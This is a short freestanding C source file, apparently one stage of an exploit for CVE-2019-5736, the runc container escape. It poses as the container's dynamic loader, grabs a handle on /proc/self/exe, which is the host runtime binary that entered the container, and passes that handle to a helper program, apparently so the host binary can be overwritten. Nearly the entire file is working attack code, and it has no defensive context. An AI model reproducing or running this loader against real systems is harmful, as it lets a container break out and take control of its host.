/* A program loader that keeps hold of the program it was asked to load: the image of CVE-2019-5736 has it where the
 * host's dynamic programs expect theirs, and `/proc/self/exe` as its command.  The program is then whatever the
 * process that entered the container was, and this code runs in its place.
 *
 * Freestanding: started instead of the loader, it finds the other program's headers, which no libc would survive. */
#include <sys/syscall.h>

#define O_PATH 010000000

static long call(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

__attribute__((force_align_arg_pointer)) void _start(void)
{
    char name[] = "/proc/self/exe", program[] = "/bin/probe", word[] = "probe", attack[] = "reopen", fd[] = "9";
    char *arguments[] = {word, attack, fd, 0}, *environment[] = {0};
    long held = call(SYS_open, (long)name, O_PATH, 0);
    call(SYS_dup2, held, 9, 0);
    call(SYS_execve, (long)program, (long)arguments, (long)environment);
    call(SYS_exit, 1, 0, 0);
}
